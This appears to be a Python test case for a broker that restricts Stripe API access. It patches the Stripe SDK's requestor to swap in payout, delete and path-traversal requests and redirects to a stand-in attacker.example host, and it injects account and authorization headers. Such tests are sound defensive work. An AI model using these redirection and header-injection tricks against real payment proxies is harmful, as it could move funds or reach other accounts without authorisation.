# attack: the SDK's inside is open to patches: its requestor is made to send other paths, methods and headers
# expect: broker
# validator: refused
import os

import stripe
from stripe import _api_requestor as requestors

stripe.api_key = os.environ["STRIPE_API_KEY"]
stripe.max_network_retries = 0
original = requestors._APIRequestor._args_for_request_with_retries


def turned(to_method, to_path):
    def patched(self, method, url, *arguments, **named):
        return original(self, to_method, to_path, *arguments, **named)

    return patched


for method, path in (
    ("post", "/v1/payouts"),
    ("delete", "/v1/prices/price_1"),
    ("get", "/v1/customers/../payouts"),
    ("get", "//attacker.example/v1/customers"),
    ("get", "@attacker.example/"),
    ("patch", "/v1/customers/cus_1"),
    ("post", "/v1/terminal/connection_tokens"),
):
    requestors._APIRequestor._args_for_request_with_retries = turned(method, path)
    try:
        made = stripe.Customer.retrieve("cus_1")
        print("ESCAPED:", method, path, "was answered:", made.id, flush=True)
    except Exception as error:
        print(method, path, type(error).__name__, str(error)[:100])
requestors._APIRequestor._args_for_request_with_retries = original

# The headers of every request, as the requestor makes them.
before = requestors._APIRequestor.request_headers


def with_more(self, *arguments, **named):
    return {
        **before(self, *arguments, **named),
        "Stripe-Account": "acct_1",
        "Stripe-Context": "wksp_1",
        "Authorization": "Basic eDo=",
    }


requestors._APIRequestor.request_headers = with_more
try:
    # The arena looks which headers arrive.
    print(stripe.Customer.retrieve("cus_1").id)
except Exception as error:
    print(type(error).__name__, error)
